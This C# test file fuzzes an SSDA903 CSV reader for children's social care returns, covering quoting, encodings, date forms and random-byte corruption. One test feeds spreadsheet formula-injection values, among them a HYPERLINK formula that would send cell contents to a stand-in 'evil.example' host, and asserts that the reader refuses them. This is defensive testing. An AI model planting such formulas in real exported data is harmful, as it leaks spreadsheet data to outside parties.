using System.Text;
using OpenCsc.Returns;
using OpenCsc.Returns.Ssda903;

namespace OpenCsc.Tests.Returns.Ssda903;

/// <summary>Damaged, hostile and odd CSV files: each gives a clear problem or a correct read, never a crash.</summary>
public class Ssda903CsvFuzzTests
{
    private const string EpisodesHeader = "CHILD,DECOM,RNE,LS,CIN,PLACE,PLACE_PROVIDER,DEC,REC,REASON_PLACE_CHANGE,HOME_POST,PL_POST,URN";
    private const string Episode = "566910,15/02/2016,L,C2,N3,T2,PR0,14/08/2017,X1,CLOSE,,,4244474";

    private static (List<Ssda903Record> Records, ReturnProblems Problems) Read(string text, int year = 2023) =>
        Read(Encoding.UTF8.GetBytes(text), year);

    private static (List<Ssda903Record> Records, ReturnProblems Problems) Read(byte[] bytes, int year = 2023)
    {
        var reader = new Ssda903CsvReader(new Ssda903ReadOptions { Year = new CollectionYear(year) });
        var records = reader.Read(new MemoryStream(bytes), "test.csv").ToList();
        return (records, reader.Problems);
    }

    [Fact]
    public void Quoted_fields_may_hold_commas_line_breaks_and_doubled_quotes()
    {
        // Arrange: line 3 holds a value over two lines, so the next row starts on line 5
        string text = EpisodesHeader + "\n" +
            "\"566910\",15/02/2016,L,C2,N3,T2,PR0,,X1,,\"AB1, 2CD\",\"say \"\"hi\"\"\",1\n" +
            "566911,15/02/2016,L,C2,N3,T2,PR0,,X1,,\"line one\nline two\",,2\n" +
            "566912,15/02/2016,L,C2,N3,T2,PR0,,X1,,,,3,\n";

        // Act
        var (records, problems) = Read(text);

        // Assert
        var episodes = records.Cast<Ssda903Episode>().ToList();
        Assert.Equal(2, episodes.Count);
        Assert.Equal("566910", episodes[0].Child);
        Assert.Equal("AB1, 2CD", episodes[0].HomePost);
        Assert.Equal("say \"hi\"", episodes[0].PlPost);
        Assert.Equal("line one\nline two", episodes[1].HomePost);
        var tooMany = Assert.Single(problems.Errors);
        Assert.Equal(5, tooMany.Line);
        Assert.Contains("13 fields", tooMany.Expected, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("\n")]
    [InlineData("\r\n")]
    [InlineData("\r")]
    public void Any_line_end_reads(string newline)
    {
        var (records, problems) = Read(EpisodesHeader + newline + Episode + newline + newline + Episode);

        Assert.Equal(2, records.Count);
        Assert.Empty(problems);
    }

    [Fact]
    public void A_byte_order_mark_is_read_past()
    {
        var bytes = Encoding.UTF8.GetPreamble().Concat(Encoding.UTF8.GetBytes(EpisodesHeader + "\r\n" + Episode + "\r\n")).ToArray();

        var (records, problems) = Read(bytes);

        Assert.Single(records);
        Assert.Empty(problems);
    }

    [Fact]
    public void Windows_1252_bytes_are_a_problem_naming_the_line_and_column()
    {
        var bytes = Encoding.UTF8.GetBytes(EpisodesHeader + "\n" + Episode + "\n")
            .Concat(Encoding.Latin1.GetBytes("566911,15/02/2016,L,C2,N3,T2,PR0,,X1,,CAF\u00C9 1AB,,1\n"))
            .Concat(Encoding.UTF8.GetBytes(Episode + "\n"))
            .ToArray();

        var (records, problems) = Read(bytes);

        Assert.Equal(2, records.Count);
        var problem = Assert.Single(problems);
        Assert.Equal(3, problem.Line);
        Assert.Equal("HOME_POST", problem.Field);
        Assert.Contains("Windows-1252", problem.Expected, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")")]
    [InlineData("+1+2")]
    [InlineData("-2+3")]
    [InlineData("@SUM(A1:A2)")]
    [InlineData("\t=1")]
    public void Formula_like_values_in_id_and_code_fields_are_refused(string formula)
    {
        string quoted = "\"" + formula.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"";
        string text = EpisodesHeader + "\n" +
            quoted + ",15/02/2016,L,C2,N3,T2,PR0,,X1,,,,1\n" +
            "566911,15/02/2016,L,C2,N3," + quoted + ",PR0,,X1,,,,1\n";

        var (records, problems) = Read(text);

        Assert.Empty(records);
        Assert.Equal(2, problems.ErrorCount);
        Assert.All(problems, p => Assert.Contains("formula", p.Expected, StringComparison.Ordinal));
        Assert.Equal(["CHILD", "PLACE"], problems.Select(p => p.Field));
    }

    [Theory]
    [InlineData("14/08/2017", Ssda903DateForm.Standard)]
    [InlineData("14/8/2017", Ssda903DateForm.NoLeadingZeros)]
    [InlineData("2017-08-14", Ssda903DateForm.Iso)]
    [InlineData("14/08/2017 00:00:00", Ssda903DateForm.WithMidnight)]
    [InlineData("2017-08-14 00:00", Ssda903DateForm.WithMidnight)]
    public void Excel_mangled_dates_are_read_with_a_note(string written, Ssda903DateForm form)
    {
        var (records, problems) = Read(EpisodesHeader + "\n" + Episode.Replace("14/08/2017", written, StringComparison.Ordinal) + "\n" + Episode.Replace("14/08/2017", written, StringComparison.Ordinal));

        Assert.All(records, r => Assert.Equal(new DateOnly(2017, 8, 14), ((Ssda903Episode)r).Dec));
        Assert.Equal(2, records.Count);
        if (form == Ssda903DateForm.Standard)
        {
            Assert.Empty(problems);
        }
        else
        {
            var note = Assert.Single(problems);
            Assert.Equal(ReturnProblemSeverity.Warning, note.Severity);
            Assert.Equal(2, note.Line);
            Assert.Equal("DEC", note.Field);
        }
    }

    [Theory]
    [InlineData("14/08/17")]
    [InlineData("08/14/2017")]
    [InlineData("31/02/2017")]
    [InlineData("14-08-2017")]
    [InlineData("14 Aug 2017")]
    [InlineData("42961")]
    [InlineData("14/08/2017 13:45:00")]
    [InlineData("14/08/0017")]
    public void Other_date_forms_are_refused(string written)
    {
        var (records, problems) = Read(EpisodesHeader + "\n" + Episode.Replace("14/08/2017", written, StringComparison.Ordinal));

        Assert.Empty(records);
        var problem = Assert.Single(problems);
        Assert.Equal("DEC", problem.Field);
        Assert.Equal(written, problem.Value);
        Assert.Equal("a date as dd/mm/YYYY", problem.Expected);
    }

    [Fact]
    public void Wrong_type_values_are_each_reported()
    {
        string text = "CHILD,DOB,SDQ_SCORE,SDQ_REASON,CONVICTED,HEALTH_CHECK,IMMUNISATIONS,TEETH_CHECK,HEALTH_ASSESSMENT,SUBSTANCE_MISUSE,INTERVENTION_RECEIVED,INTERVENTION_OFFERED\n" +
            "1,banana,abc,SDQ1,Y,1,0,1,0,1,0,1\n" +
            "2,01/01/2010,41,,true,1,0,1,0,1,0,1\n";

        var (records, problems) = Read(text);

        var oc2 = (Ssda903Oc2)Assert.Single(records);
        Assert.Equal(41, oc2.SdqScore);
        Assert.True(oc2.Convicted);
        Assert.Equal(["DOB", "SDQ_SCORE", "CONVICTED"], problems.Errors.Select(p => p.Field));
        Assert.Equal(["SDQ_SCORE", "CONVICTED"], problems.Warnings.Select(p => p.Field));
    }

    [Fact]
    public void Blank_required_values()
    {
        string text = "CHILD,SEX,DOB,ETHNIC,UPN,MOTHER,MC_DOB\n" +
            ",1,01/01/2010,WBRI,A123,,\n" +
            "2,1,,WBRI,A123,,\n" +
            "3,1,01/01/2010,,A123,,\n";

        var (records, problems) = Read(text);

        var header = (Ssda903Header)Assert.Single(records);
        Assert.Equal("", header.Ethnic);
        Assert.Equal(["CHILD", "DOB"], problems.Errors.Select(p => p.Field));
        Assert.Equal("ETHNIC", Assert.Single(problems.Warnings).Field);
    }

    [Fact]
    public void Rows_with_too_few_fields_are_reported_and_reading_goes_on()
    {
        var (records, problems) = Read(EpisodesHeader + "\n566910,15/02/2016,L\n" + Episode + "\n");

        Assert.Single(records);
        Assert.Equal(2, Assert.Single(problems).Line);
    }

    [Fact]
    public void A_truncated_file_gives_problems()
    {
        string text = EpisodesHeader + "\n" + Episode + "\n" + Episode;

        for (int length = EpisodesHeader.Length + 2; length < text.Length; length++)
        {
            var (records, problems) = Read(text[..length]);
            Assert.True(problems.HasErrors || records.Count == 2 || (records.Count == 1 && length <= EpisodesHeader.Length + Episode.Length + 2),
                $"cut at {length}: {records.Count} records and no error");
        }
    }

    [Fact]
    public void An_unclosed_quote_is_reported_with_the_line_it_opened_on()
    {
        var (records, problems) = Read(EpisodesHeader + "\n" + Episode + "\n566911,\"15/02/2016,L,C2\n");

        Assert.Single(records);
        Assert.Contains(problems, p => p.Line == 3 && p.Expected.Contains("closing quote", StringComparison.Ordinal));
    }

    [Fact]
    public void Text_after_a_closing_quote_is_reported()
    {
        var (_, problems) = Read(EpisodesHeader + "\n\"566910\"x,15/02/2016,L,C2,N3,T2,PR0,,X1,,,,1\n");

        Assert.Contains(problems, p => p.Line == 2 && p.Expected.Contains("after a closing quote", StringComparison.Ordinal));
    }

    [Fact]
    public void Values_are_trimmed_and_header_names_are_read_in_any_case()
    {
        var (records, problems) = Read(" child , dob ,REVIEW,Review_Code\n  1 , 01/01/2010 ,01/05/2023, PN1 \n");

        var review = (Ssda903Review)Assert.Single(records);
        Assert.Equal("1", review.Child);
        Assert.Equal("PN1", review.ReviewCode);
        Assert.Empty(problems);
    }

    [Fact]
    public void Empty_and_header_only_files_give_no_records()
    {
        var (none, emptyProblems) = Read("");
        var (headerOnly, headerProblems) = Read(EpisodesHeader + "\r\n");

        Assert.Empty(none);
        Assert.Contains("empty", Assert.Single(emptyProblems).Expected, StringComparison.Ordinal);
        Assert.Empty(headerOnly);
        Assert.Empty(headerProblems);
    }

    [Fact]
    public void Random_bytes_never_crash_the_reader()
    {
        var random = new Random(903);
        var valid = Encoding.UTF8.GetBytes(EpisodesHeader + "\n" + string.Join("\n", Enumerable.Repeat(Episode, 20)));
        for (int i = 0; i < 300; i++)
        {
            var bytes = (byte[])valid.Clone();
            for (int k = 0; k < 1 + (i % 10); k++)
            {
                bytes[random.Next(bytes.Length)] = (byte)random.Next(256);
            }

            _ = Read(bytes);
        }
    }
}
